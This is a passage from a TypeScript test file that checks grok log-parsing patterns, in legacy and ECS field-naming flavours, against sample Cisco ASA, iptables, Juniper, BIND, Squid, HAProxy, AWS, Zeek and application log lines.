  assert.equal(grok('ecs-v1', 'CISCOFW302013_302014_302015_302016', v6)?.fields['[observer][egress][interface][name]'], 'dmz:2001:db8');
});

test('CISCOFW106023, 106100, 710001-6, 419002, 733100 and 305011 on typical messages', () => {
  const deny = 'Deny tcp src inside:10.10.32.36/56091 dst outside:10.50.0.77/22 by access-group "inside_access_in" [0x5d2d8a05, 0x0]';
  assert.deepEqual(grok('ecs-v1', 'CISCOFW106023', deny)?.fields, {
    '[cisco][asa][outcome]': 'Deny', '[cisco][asa][network][transport]': 'tcp', '[observer][ingress][interface][name]': 'inside',
    '[source][ip]': '10.10.32.36', '[source][port]': '56091', '[observer][egress][interface][name]': 'outside', '[destination][ip]': '10.50.0.77',
    '[destination][port]': '22', '[cisco][asa][rule_name]': 'inside_access_in', '[@metadata][cisco][asa][hashcode1]': '0x5d2d8a05',
    '[@metadata][cisco][asa][hashcode2]': '0x0',
  });
  assert.equal(grok('legacy', 'CISCOFW106023', deny)?.fields.policy_id, 'inside_access_in');
  const icmp = 'Deny icmp src outside:198.51.100.9 dst inside:10.0.0.1 (type 8, code 0) by access-group "outside_in" [0x0, 0x0]';
  assert.equal(grok('ecs-v1', 'CISCOFW106023', icmp)?.fields['[cisco][asa][icmp_type]'], '8');
  const hostnames = 'Deny tcp src outside:evil.example.com/4444 dst inside:web01/443 by access-group "acl" [0x1, 0x2]';
  assert.equal(grok('ecs-v1', 'CISCOFW106023', hostnames)?.fields['[source][address]'], 'evil.example.com');

  const acl = 'access-list outside_access_in denied tcp outside/191.54.25.189(49553) -> dmz/10.30.0.20(22) hit-cnt 1 first hit [0xe334903e, 0x0]';
  assert.deepEqual(grok('legacy', 'CISCOFW106100', acl)?.fields, {
    policy_id: 'outside_access_in', action: 'denied', protocol: 'tcp', src_interface: 'outside', src_ip: '191.54.25.189', src_port: '49553',
    dst_interface: 'dmz', dst_ip: '10.30.0.20', dst_port: '22', hit_count: '1', interval: 'first hit', hashcode1: '0xe334903e', hashcode2: '0x0',
  });
  const acl300 = 'access-list inside_access_in est-allowed tcp inside/10.10.16.23(65345) -> outside/23.44.65.232(443) hit-cnt 87 300-second interval [0x29edc588, 0xc857ff66]';
  assert.equal(grok('ecs-v1', 'CISCOFW106100', acl300)?.fields['[cisco][asa][hit_count]'], '87');

  const ssh = 'TCP access denied by ACL from 180.16.152.125/13790 to outside:203.0.113.11/443';
  assert.deepEqual(grok('ecs-v1', 'CISCOFW710001_710002_710003_710005_710006', ssh)?.fields, {
    '[cisco][asa][network][transport]': 'TCP', '[cisco][asa][outcome]': 'denied by ACL', '[source][ip]': '180.16.152.125',
    '[source][port]': '13790', '[observer][egress][interface][name]': 'outside', '[destination][ip]': '203.0.113.11', '[destination][port]': '443',
  });

  const syn = 'Duplicate TCP SYN from inside:10.10.48.226/53116 to outside:142.251.7.70/443 with different initial sequence number';
  assert.equal(grok('legacy', 'CISCOFW419002', syn)?.fields.reason, 'Duplicate TCP SYN');

  const burst = '[ 185.18.99.140] drop rate-2 exceeded. Current burst rate is 23 per second, max configured rate is 8; Current average rate is 3 per second, max configured rate is 4; Cumulative total count is 11246';
  assert.deepEqual(grok('ecs-v1', 'CISCOFW733100', burst)?.fields, {
    '[cisco][asa][burst][object]': '185.18.99.140', '[cisco][asa][burst][id]': 'rate-2', '[cisco][asa][burst][current_rate]': '23',
    '[cisco][asa][burst][configured_rate]': '8', '[cisco][asa][burst][avg_rate]': '3', '[cisco][asa][burst][configured_avg_rate]': '4',
    '[cisco][asa][burst][cumulative_count]': '11246',
  });

  const xlate = 'Built dynamic TCP translation from inside:10.10.51.5/53552 to outside:192.0.2.67/20497';
  assert.deepEqual(grok('ecs-v1', 'CISCOFW305011', xlate)?.fields, {
    '[cisco][asa][outcome]': 'Built', '[cisco][asa][network][transport]': 'TCP', '[observer][ingress][interface][name]': 'inside',
    '[source][ip]': '10.10.51.5', '[source][port]': '53552', '[observer][egress][interface][name]': 'outside', '[destination][ip]': '192.0.2.67',
    '[destination][port]': '20497',
  });
  assert.equal(grok('legacy', 'CISCOFW305011', xlate)?.fields.xlate_type, 'dynamic');
});

/** The message ids each CISCOFW pattern covers, read from the "# ASA-n-NNNNNN, ..." comment above it. */
function asaPatternsById(flavour: Flavour): Map<string, string> {
  const byId = new Map<string, string>();
  const text = lib(flavour).files.get('firewalls')!;
  let ids: string[] = [];
  for (const line of text.split('\n')) {
    if (line.startsWith('# ASA-')) ids = [...line.matchAll(/ASA-\d-(\d{6})/g)].map((m) => m[1]!);
    else if (line.startsWith('CISCOFW')) { for (const id of ids) byId.set(id, line.slice(0, line.indexOf(' '))); ids = []; }
  }
  return byId;
}

test('every CISCOFW pattern names the ASA message ids it covers', () => {
  for (const f of FLAVOURS) {
    const byId = asaPatternsById(f);
    const covered = new Set(byId.values());
    const patterns = [...lib(f).defs.keys()].filter((n) => n.startsWith('CISCOFW'));
    assert.equal(patterns.length, 35, `${f}: all upstream CISCOFW patterns`);
    assert.deepEqual(patterns.filter((p) => !covered.has(p)), [], f);
    assert.equal(byId.get('302013'), 'CISCOFW302013_302014_302015_302016');
    assert.equal(byId.get('106023'), 'CISCOFW106023');
  }
});

/** Header then message: returns [message id, fields] or null. */
function parseAsa(flavour: Flavour, line: string): { id: string; pattern?: string; fields?: Fields } | null {
  const head = grok(flavour, 'CISCO_TAGGED_SYSLOG', line);
  if (!head) return null;
  const tag = String(head.fields[flavour === 'legacy' ? 'ciscotag' : '[cisco][asa][tag]']);
  const id = tag.slice(tag.lastIndexOf('-') + 1);
  const pattern = asaPatternsById(flavour).get(id);
  if (!pattern) return { id };
  const body = line.slice(head.matched.length).replace(/^ /, '');
  const m = grok(flavour, pattern, body);
  return { id, pattern, fields: m?.fields };
}

test('generated Cisco ASA lines (../shared/bench/gen-logs.mjs) parse in both flavours', (t) => {
  const gen = sharedFile(t, 'bench/gen-logs.mjs');
  if (!gen) return;
  const out = spawnSync(process.execPath, [gen, '--kind', 'asa', '--count', '400', '--seed', '3'], { encoding: 'utf8' });
  assert.equal(out.status, 0, out.stderr);
  const lines = out.stdout.split('\n').filter(Boolean);
  assert.equal(lines.length, 400);
  const seen = new Set<string>();
  for (const f of FLAVOURS) {
    for (const line of lines) {
      const r = parseAsa(f, line);
      assert.ok(r, `${f}: header of ${line}`);
      if (!r.pattern) continue;
      seen.add(r.id);
      assert.ok(r.fields, `${f}: ${r.pattern} on ${line}`);
      const srcIp = r.fields[f === 'legacy' ? 'src_ip' : '[source][ip]'];
      if (r.id !== '733100') assert.match(String(srcIp), /^[0-9.:a-f]+$/, `${f}: source ip of ${line}`);
    }
  }
  for (const id of ['302013', '302014', '302015', '302016', '305011', '106023', '106100']) assert.ok(seen.has(id), `sample includes ${id}`);
});

test('Cisco ASA sample logs (../shared/samples/firewall/cisco_asa) parse where a CISCOFW pattern covers the message', (t) => {
  const dir = sharedFile(t, 'samples/firewall/cisco_asa/elastic-integrations');
  if (!dir) return;
  for (const f of FLAVOURS) {
    const byId = asaPatternsById(f);
    let covered = 0;
    const failed: string[] = [];
    for (const file of readdirSync(dir).filter((n) => n.endsWith('.log'))) {
      for (const line of readFileSync(join(dir, file), 'utf8').split('\n')) {
        // The samples carry several header styles; the message part follows "%ASA-6-302013: ".
        const m = /%((?:ASA|FTD)(?:-[a-z]+)?-\d-(\d{6})): (.*)$/.exec(line);
        if (!m) continue;
        assert.ok(fullMatch(f, 'CISCOTAG', m[1]!.replace(/-[a-z]+-/, '-')), `${f}: tag ${m[1]}`);
        const pattern = byId.get(m[2]!);
        if (!pattern) continue;
        covered++;
        if (!grok(f, pattern, m[3]!)) failed.push(`${file}: ${line}`);
      }
    }
    assert.ok(covered >= 300, `${f}: ${covered} sample lines with a covered message id`);
    // Upstream's patterns do not cover every variant the ASA writes (e.g. FTD extensions, hostnames
    // where addresses are expected): allow a remainder, but the bulk must parse.
    // Measured: 41 of 403 (10%), mostly FTD-only variants and malformed addresses such as 1192.168.2.2.
    assert.ok(failed.length / covered < 0.12, `${f}: ${failed.length}/${covered} failed:\n${failed.slice(0, 10).join('\n')}`);
  }
});

// ---------------------------------------------------------------------------------------------
// Other security log formats

test('iptables / Shorewall (ecs-v1) and SFW2, Shorewall (legacy) kernel lines', () => {
  const kern = 'May 28 17:23:25 myHost kernel: [3124658.791874] Shorewall:FORWARD:REJECT:IN=eth2 OUT=eth2 SRC=1.2.3.4 DST=192.168.0.10 LEN=141 TOS=0x00 PREC=0x00 TTL=63 ID=55251 PROTO=UDP SPT=5353 DPT=5335 LEN=121';
  assert.deepEqual(grok('ecs-v1', 'SHOREWALL', kern)?.fields, {
    timestamp: 'May 28 17:23:25', '[observer][hostname]': 'myHost', '[shorewall][firewall][type]': 'FORWARD', '[shorewall][firewall][action]': 'REJECT',
    '[observer][ingress][interface][name]': 'eth2', '[observer][egress][interface][name]': 'eth2', '[source][ip]': '1.2.3.4',
    '[destination][ip]': '192.168.0.10', '[iptables][length]': '141', '[iptables][tos]': '00', '[iptables][precedence_bits]': '00',
    '[iptables][ttl]': '63', '[iptables][id]': '55251', '[network][transport]': 'UDP', '[source][port]': '5353', '[destination][port]': '5335',
  });
  const legacy = grok('legacy', 'SHOREWALL', kern)?.fields;
  assert.equal(legacy?.nf_action1, 'FORWARD');
  assert.equal(legacy?.nf_out_interface, 'eth2');
  assert.equal(legacy?.nf_dst_port, '5335');
  const tcp = 'IN=eth0 OUT= MAC=00:1b:2b:90:fc:c3:a4:ba:db:0c:22:57:08:00 SRC=203.0.113.5 DST=10.0.0.2 LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=4321 DF PROTO=TCP SPT=51515 DPT=22 WINDOW=29200 RES=0x00 SYN URGP=0';
  const ipt = grok('ecs-v1', 'IPTABLES', tcp)?.fields;
  assert.equal(ipt?.['[destination][mac]'], '00:1b:2b:90:fc:c3');
  assert.equal(ipt?.['[source][mac]'], 'a4:ba:db:0c:22:57');
  assert.equal(ipt?.['[iptables][fragment_flags]'], 'DF');
  assert.equal(ipt?.['[iptables][tcp][flags]'], 'SYN ');
  assert.equal(ipt?.['[iptables][tcp][window]'], '29200');
  const sfw2 = 'Jun 27 12:00:01 linux kernel: [19333126.907670] SFW2-INext-ACC-TCP IN=eth0 OUT= MAC=a4:ba:db:0c:22:57:00:1b:2b:90:fc:c3:08:00 SRC=1.2.3.4 DST=3.2.4.1 LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=52253 DF PROTO=TCP SPT=56288 DPT=5666 WINDOW=29200 RES=0x00 SYN URGP=0';
  assert.equal(grok('legacy', 'SFW2', sfw2)?.fields.nf_action, 'ACC-TCP');
  assert.equal(grok('legacy', 'SFW2', sfw2)?.fields.nf_dst_port, '5666');
  assert.equal(grok('ecs-v1', 'SFW2', sfw2)?.fields['[suse][firewall][action]'], 'ACC-TCP');
});

test('Juniper RT_FLOW, BIND 9, Squid, HAProxy', () => {
  const close = 'RT_FLOW_SESSION_CLOSE: session closed TCP FIN: 10.10.10.2/53836->10.10.10.1/22 junos-ssh 10.10.10.2/53836->10.10.10.1/22 None None 6 log-host-traffic untrust junos-host 5 78(6657) 122(13305) 45 UNKNOWN UNKNOWN N/A(N/A) ge-0/0/1.0 No ';
  const rt = grok('ecs-v1', 'RT_FLOW1', close)?.fields;
  assert.equal(rt?.['[juniper][srx][reason]'], 'session closed TCP FIN');
  assert.equal(rt?.['[source][bytes]'], '6657');
  assert.equal(rt?.['[rule][name]'], 'log-host-traffic');
  assert.equal(rt?.['[juniper][srx][src_nat_rule_name]'], undefined);
  assert.equal(grok('legacy', 'RT_FLOW1', close)?.fields['close-reason'], 'session closed TCP FIN');
  assert.equal(grok('ecs-v1', 'RT_FLOW_EVENT', 'RT_FLOW_SESSION_DENY')?.matched, 'RT_FLOW_SESSION_DENY');

  const bind = '17-Feb-2018 23:06:56.326 queries: info: client 172.26.0.1#12345 (test.example.com): query: test.example.com IN A +E(0)K (172.26.0.3)';
  assert.deepEqual(grok('ecs-v1', 'BIND9', bind)?.fields, {
    timestamp: '17-Feb-2018 23:06:56.326', '[bind][log][category]': 'queries', '[log][level]': 'info', '[client][ip]': '172.26.0.1',
    '[client][port]': '12345', '[bind][log][question][name]': 'test.example.com', '[dns][question][name]': 'test.example.com',
    '[dns][question][class]': 'IN', '[dns][question][type]': 'A', '[bind][log][question][flags]': '+E(0)K', '[server][ip]': '172.26.0.3',
  });
  assert.equal(grok('legacy', 'BIND9', bind)?.fields.querytype, 'A +E(0)K');

  const squid = '1525344856.899   16867 10.170.72.111 TCP_TUNNEL/200 6256 CONNECT logs.example.com:443 - HIER_DIRECT/203.0.113.99 -';
  assert.deepEqual(grok('ecs-v1', 'SQUID3', squid)?.fields, {
    timestamp: '1525344856.899', '[squid][request][duration]': '16867', '[source][ip]': '10.170.72.111', '[event][action]': 'TCP_TUNNEL',
    '[http][response][status_code]': '200', '[http][response][bytes]': '6256', '[http][request][method]': 'CONNECT',
    '[url][original]': 'logs.example.com:443', '[squid][hierarchy_code]': 'HIER_DIRECT', '[destination][address]': '203.0.113.99',
  });
  assert.equal(grok('legacy', 'SQUID3', squid)?.fields.content_type, '-');

  const hap = 'Sep 14 02:01:37 lb haproxy[7165]: 10.1.1.2:58438 [14/Sep/2014:02:01:37.452] public nginx/server1 0/0/1/2/3 200 2346 - - ---- 3/3/0/1/0 0/0 {host.example.com|Mozilla} "GET /my/path?x=1 HTTP/1.1"';
  const h = grok('ecs-v1', 'HAPROXYHTTP', hap)?.fields;
  assert.equal(h?.['[haproxy][server_name]'], 'server1');
  assert.equal(h?.['[url][path]'], '/my/path');
  assert.equal(h?.['[url][query]'], 'x=1');
  assert.equal(h?.['[haproxy][http][request][captured_headers]'], 'host.example.com|Mozilla');
  const hl = grok('legacy', 'HAPROXYHTTP', hap)?.fields;
  assert.equal(hl?.http_request, '/my/path?x=1');
  assert.equal(hl?.haproxy_milliseconds, '452');
  const tcp = 'Sep 14 02:01:37 lb haproxy[7165]: 10.1.1.2:58438 [14/Sep/2014:02:01:37.452] ft_tcp bk_tcp/<NOSRV> -1/-1/0 0 SC 1/1/0/0/0 0/0';
  assert.equal(grok('ecs-v1', 'HAPROXYTCP', tcp)?.fields['[haproxy][server_name]'], undefined);
  assert.equal(grok('legacy', 'HAPROXYTCP', tcp)?.fields.time_queue, '-1', 'legacy keeps -1 timers');
});

test('AWS: ELB, S3 and CloudFront access logs', () => {
  const elb = '2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/path?x=1 HTTP/1.1"';
  const e = grok('ecs-v1', 'ELB_ACCESS_LOG', elb)?.fields;
  assert.equal(e?.['[aws][elb][backend][ip]'], '10.0.0.1');
  assert.equal(e?.['[url][domain]'], 'www.example.com');
  assert.equal(e?.['[url][query]'], 'x=1');
  assert.equal(grok('legacy', 'ELB_ACCESS_LOG', elb)?.fields.params, '?x=1');
  const s3 = '79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be awsexamplebucket1 [06/Feb/2019:00:00:38 +0000] 192.0.2.3 79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be 3E57427F3EXAMPLE REST.GET.VERSIONING - "GET /awsexamplebucket1?versioning HTTP/1.1" 200 - 113 - 7 - "-" "S3Console/0.4" -';
  assert.equal(grok('ecs-v1', 'S3_ACCESS_LOG', s3)?.fields['[aws][s3access][operation]'], 'REST.GET.VERSIONING');
  assert.equal(grok('legacy', 'S3_ACCESS_LOG', s3)?.fields.operation, 'REST.GET.VERSIONING');
  const cf = ['2019-12-04', '21:02:31', 'LAX1', '392', '192.0.2.100', 'GET', 'd111111abcdef8.cloudfront.net', '/index.html', '200', '-',
    'Mozilla/5.0%20(Windows%20NT%2010.0)', '-', '-', 'Hit', 'SOX4xwn4XV6Q4rgb7XiVGOHms_BGlTAC4KyHmureZmBNrjGdRLiNIQ==',
    'd111111abcdef8.cloudfront.net', 'https', '23', '0.001', '-', 'TLSv1.2', 'ECDHE-RSA-AES128-GCM-SHA256', 'Hit'].join('\t');
  const c = grok('legacy', 'CLOUDFRONT_ACCESS_LOG', cf)?.fields;
  assert.equal(c?.timestamp, '2019-12-04\t21:02:31');
  assert.equal(c?.agent, 'Mozilla/5.0%20(Windows%20NT%2010.0)');
  assert.equal(c?.time_taken, '0.001');
  assert.equal(c?.x_edge_response_result_type, 'Hit');
  assert.equal(grok('ecs-v1', 'CLOUDFRONT_ACCESS_LOG', cf)?.fields['[aws][cloudfront][x_edge_location]'], 'LAX1');
});

test('Bro / Zeek TSV logs', () => {
  const conn = ['1300475167.096535', 'CRCC5OdDlXe', '141.142.220.202', '5353', '224.0.0.251', '5353', 'udp', 'dns', '0.000000', '0', '0', 'S0',
    '-', '0', 'D', '1', '73', '0', '0', '(empty)'].join('\t');
  assert.equal(grok('legacy', 'BRO_CONN', conn)?.fields.conn_state, 'S0');
  assert.equal(grok('legacy', 'BRO_CONN', conn)?.fields.tunnel_parents, '(empty)');
  const e = grok('ecs-v1', 'BRO_CONN', conn)?.fields;
  assert.equal(e?.['[network][protocol]'], 'dns');
  assert.equal(e?.['[zeek][connection][local_orig]'], undefined);
  assert.equal(e?.['[source][bytes]'], '73');
  const zconn = ['1300475167.096535', 'CRCC5OdDlXe', '141.142.220.202', '5353', '224.0.0.251', '5353', 'udp', 'dns', '0.000000', '0', '0', 'S0',
    'T', 'F', '0', 'D', '1', '73', '0', '0', '-', '00:11:22:33:44:55', '-'].join('\t');
  const z = grok('ecs-v1', 'ZEEK_CONN', zconn)?.fields;
  assert.equal(z?.['[zeek][connection][local_resp]'], 'F');
  assert.equal(z?.['[source][mac]'], '00:11:22:33:44:55');
});

// ---------------------------------------------------------------------------------------------
// The remaining formats: one realistic line each, a few fields per flavour

const OTHER_LINES: { pattern: string; line: string; legacy: Fields; ecs: Fields }[] = [
  {
    pattern: 'NETSCREENSESSIONLOG',
    line: 'Jun 25 18:59:29 192.168.1.1 ns25: NetScreen device_id=ns25  [Root]system-notification-00257(traffic): start_time="2009-06-25 18:59:29" duration=0 policy_id=320001 service=udp/port:7001 proto=17 src zone=Untrust dst zone=Trust action=Deny sent=0 rcvd=0 src=198.51.100.4 dst=10.0.0.8 src_port=123 dst_port=7001 src-xlated ip=198.51.100.4 port=123 dst-xlated ip=10.0.0.8 port=7001 session_id=0 reason=Traffic Denied',
    legacy: { device: '192.168.1.1', device_id: 'ns25', start_time: '"2009-06-25 18:59:29"', action: 'Deny', src_ip: '198.51.100.4', dst_port: '7001', reason: 'Traffic Denied' },
    ecs: { '[observer][name]': 'ns25', '[observer][product]': 'NetScreen', '[event][code]': '00257', '[netscreen][session][type]': 'traffic', '[event][action]': 'Deny', '[destination][nat][port]': '7001', '[netscreen][session][reason]': 'Traffic Denied' },
  },
  {
    pattern: 'JAVASTACKTRACEPART',
    line: '    at org.apache.catalina.core.StandardWrapperValve.invoke(StandardWrapperValve.java:233)',
    legacy: { class: 'org.apache.catalina.core.StandardWrapperValve', method: 'invoke', file: 'StandardWrapperValve.java', line: '233' },
    ecs: { '[java][log][origin][class][name]': 'org.apache.catalina.core.StandardWrapperValve', '[log][origin][function]': 'invoke', '[log][origin][file][line]': '233' },
  },
  {
    pattern: 'TOMCATLOG',
    line: '2014-01-09 20:03:28,269 -0800 | ERROR | com.example.service.ExampleService - something unexpected happened',
    legacy: { timestamp: '2014-01-09 20:03:28,269 -0800', level: 'ERROR', class: 'com.example.service.ExampleService', logmessage: 'something unexpected happened' },
    ecs: { timestamp: '2014-01-09 20:03:28,269 -0800', '[log][level]': 'ERROR', message: 'something unexpected happened' },
  },
  {
    pattern: 'EXIM',
    line: '2014-01-15 12:09:41 [4321] 1W3DDT-0004Ec-9T <= sender@example.com H=mail.example.com (helo.example.com) [192.0.2.10]:55523 P=esmtps S=12345 id=abc@example.com T="Hello \\"you\\"" for rcpt@example.org',
    // The named fields sit in a repeated group: Oniguruma keeps the captures of every iteration, a plain
    // JS RegExp only those of the last one (the grok compiler has to bridge that); so only the last
    // named field (the subject) and what follows the group are checked here.
    legacy: { exim_year: '2014', pid: '4321', exim_msgid: '1W3DDT-0004Ec-9T', exim_flags: '<=', exim_sender_email: 'sender@example.com', exim_subject: '"Hello \\"you\\""', exim_recipient_email: 'rcpt@example.org' },
    ecs: { '[process][pid]': '4321', '[exim][log][flags]': '<=', '[exim][log][sender][email]': 'sender@example.com', '[exim][log][message][subject]': 'Hello \\"you\\"', '[exim][log][recipient][email]': 'rcpt@example.org' },
  },
  {
    pattern: 'NAGIOSLOGLINE',
    line: '[1427925600] CURRENT SERVICE STATE: nagioshost;SSH;OK;HARD;1;SSH OK - OpenSSH_6.6.1p1 (protocol 2.0)',
    legacy: { nagios_epoch: '1427925600', nagios_type: 'CURRENT SERVICE STATE', nagios_hostname: 'nagioshost', nagios_service: 'SSH', nagios_state: 'OK', nagios_statetype: 'HARD', nagios_statecode: '1', nagios_message: 'SSH OK - OpenSSH_6.6.1p1 (protocol 2.0)' },
    ecs: { timestamp: '1427925600', '[nagios][log][type]': 'CURRENT SERVICE STATE', '[host][hostname]': 'nagioshost', '[service][name]': 'SSH', '[service][state]': 'OK', '[nagios][log][state_type]': 'HARD', '[nagios][log][attempt]': '1', message: 'SSH OK - OpenSSH_6.6.1p1 (protocol 2.0)' },
  },
  {
    pattern: 'NAGIOSLOGLINE',
    line: '[1427956600] EXTERNAL COMMAND: SCHEDULE_HOST_DOWNTIME;sputnik;1427969045;1427972645;1;0;3600;nagiosadmin;test',
    legacy: { nagios_command: 'SCHEDULE_HOST_DOWNTIME', nagios_hostname: 'sputnik', nagios_duration: '3600', author: 'nagiosadmin' },
    ecs: { '[nagios][log][command]': 'SCHEDULE_HOST_DOWNTIME', '[host][hostname]': 'sputnik', '[nagios][log][duration]': '3600', '[user][name]': 'nagiosadmin' },
  },
  {
    pattern: 'BACULA_LOGLINE',
    line: '28-Aug 21:55 bacula-sd JobId 24: Job write elapsed time = 00:00:04, Transfer rate = 12.34 M Bytes/second',
    legacy: { bts: '28-Aug 21:55', hostname: 'bacula-sd', jobid: '24', elapsed: '00:00:04' },
    ecs: { timestamp: '28-Aug 21:55', '[host][hostname]': 'bacula-sd', '[bacula][job][id]': '24', '[bacula][job][elapsed_time]': '00:00:04' },
  },
  {
    pattern: 'MONGO3_LOG',
    line: '2014-11-03T18:28:32.450-0500 I NETWORK  [initandlisten] waiting for connections on port 27017',
    legacy: { timestamp: '2014-11-03T18:28:32.450-0500', severity: 'I', component: 'NETWORK', context: 'initandlisten', message: 'waiting for connections on port 27017' },
    ecs: { '[log][level]': 'I', '[mongodb][component]': 'NETWORK', '[mongodb][context]': 'initandlisten', message: 'waiting for connections on port 27017' },
  },
  {
    pattern: 'MONGO_SLOWQUERY',
    line: 'query users.profiles query: { email: "a@example.com" } ntoreturn:0 ntoskip:0 nscanned:10 keyUpdates:0 locks(micros) r:100 nreturned:1 reslen:200 120ms',
    legacy: { database: 'users', collection: 'profiles', query: '{ email: "a@example.com" }', ntoreturn: '0', nreturned: '1', duration: '120' },
    ecs: { '[mongodb][profile][op]': 'query', '[mongodb][database]': 'users', '[mongodb][query][original]': '{ email: "a@example.com" }', '[mongodb][profile][nscanned]': '10', '[mongodb][profile][duration]': '120' },
  },
  {
    pattern: 'RAILS3',
    line: 'Started GET "/puppet/postfix/notes?target_id=162" for 127.0.0.1 at 2013-06-05 06:01:48 -0400\nProcessing by NotesController#index as HTML\n  Parameters: {"target_id"=>"162"}\nCompleted 200 OK in 12.5ms (Views: 8.1ms | ActiveRecord: 2.4ms)',
    legacy: { verb: 'GET', request: '/puppet/postfix/notes?target_id=162', clientip: '127.0.0.1', controller: 'NotesController', action: 'index', format: 'HTML', params: '"target_id"=>"162"', response: '200', totalms: '12.5', viewms: '8.1', activerecordms: '2.4' },
    ecs: { '[http][request][method]': 'GET', '[rails][controller][class]': 'NotesController', '[rails][controller][action]': 'index', '[rails][request][params]': '"target_id"=>"162"', '[http][response][status_code]': '200', '[rails][request][duration][active_record]': '2.4' },
  },
  {
    pattern: 'REDISMONLOG',
    line: '1470637867.953466 [0 195.168.1.1:52500] "info" "server"',
    legacy: { timestamp: '1470637867.953466', database: '0', client: '195.168.1.1', port: '52500', command: 'info', params: '"server"' },
    ecs: { '[redis][database][id]': '0', '[client][ip]': '195.168.1.1', '[client][port]': '52500', '[redis][command][name]': 'info', '[redis][command][args]': '"server"' },
  },
  {
    pattern: 'RUBY_LOGGER',
    line: 'I, [2014-01-01T12:00:00.123456 #1234]  INFO -- app: hello world',
    legacy: { pid: '1234', loglevel: 'INFO', progname: 'app', message: 'hello world' },
    ecs: { '[process][pid]': '1234', '[log][level]': 'INFO', '[process][name]': 'app', message: 'hello world' },
  },
  {
    pattern: 'POSTGRESQL',
    line: '08/06/2014 13:32:07 UTC postgres 5391ae0b.7e6 12345',
    legacy: { timestamp: '08/06/2014 13:32:07', user_id: 'postgres', connection_id: '5391ae0b.7e6', pid: '12345' },
    ecs: { '[event][timezone]': 'UTC', '[user][name]': 'postgres', '[postgresql][log][connection_id]': '5391ae0b.7e6', '[process][pid]': '12345' },
  },
  {
    pattern: 'MCOLLECTIVE',
    line: 'I, [2010-12-29T11:15:32.321744 #11479]  INFO -- : mcollectived:33 The Marionette Collective 1.1.1 started',
    legacy: { timestamp: '2010-12-29T11:15:32.321744', pid: '11479', event_level: 'INFO' },
    ecs: { timestamp: '2010-12-29T11:15:32.321744', '[process][pid]': '11479', '[log][level]': 'INFO' },
  },
];

for (const f of FLAVOURS) {
  test(`${f}: java, exim, nagios, bacula, mongodb, rails, redis, ruby, postgresql, mcollective and netscreen lines`, () => {
    for (const { pattern, line, legacy, ecs } of OTHER_LINES) {
      const m = grok(f, pattern, line);
      assert.ok(m, `${pattern} should match ${JSON.stringify(line)}`);
      const expected = f === 'legacy' ? legacy : ecs;
      for (const [field, value] of Object.entries(expected)) assert.deepEqual(m.fields[field], value, `${pattern} ${field}`);
    }
    assert.ok(fullMatch(f, 'MAVEN_VERSION', '1.2.3-SNAPSHOT'));
    assert.ok(fullMatch(f, 'MAVEN_VERSION', '2.*'));
    assert.ok(!fullMatch(f, 'MAVEN_VERSION', '1.2.3.4'));
  });
}

test('exim remote host, one named field on its own', () => {
  const host = 'H=mail.example.com (helo.example.com) [192.0.2.10]:55523';
  assert.deepEqual(grok('legacy', 'EXIM_REMOTE_HOST', host)?.fields, {
    remote_hostname: 'mail.example.com', remote_heloname: 'helo.example.com', remote_host: '192.0.2.10', remote_port: '55523',
  });
  assert.deepEqual(grok('ecs-v1', 'EXIM_REMOTE_HOST', host)?.fields, {
    '[source][address]': 'mail.example.com', '[exim][log][remote_address]': 'helo.example.com', '[source][ip]': '192.0.2.10', '[source][port]': '55523',
  });
});

test('legacy HAPROXYERROR and the bro/cloudfront column rules', () => {
  const err = 'Sep 14 02:01:37 lb haproxy[7165]: 10.1.1.2:58438 [14/Sep/2014:02:01:37.452] public/bind1: SSL handshake failure';
  assert.deepEqual(grok('legacy', 'HAPROXYERROR', err)?.fields.error_message, 'SSL handshake failure');
  assert.equal(grok('legacy', 'HAPROXYERROR', err)?.fields.bind_name, 'bind1');
  // A column never swallows a tab (upstream's GREEDYDATA columns could, shifting every later field).
  const dns = ['1359565680.761790', 'UWkUyAuUGXf', '192.168.6.10', '53209', '192.168.129.36', '53', 'udp', '41477', 'paypal.com', '1', 'C_INTERNET',
    '48', 'DNSKEY', '0', 'NOERROR', 'F', 'F', 'T', 'F', '1', '-', '-', 'F'].join('\t');
  const d = grok('legacy', 'BRO_DNS', dns)?.fields;
  assert.equal(d?.query, 'paypal.com');
  assert.equal(d?.qtype_name, 'DNSKEY');
  assert.equal(d?.rejected, 'F');
  assert.equal(grok('legacy', 'BRO_CONN', dns), null, 'a dns.log line is not read as a conn.log line');
});
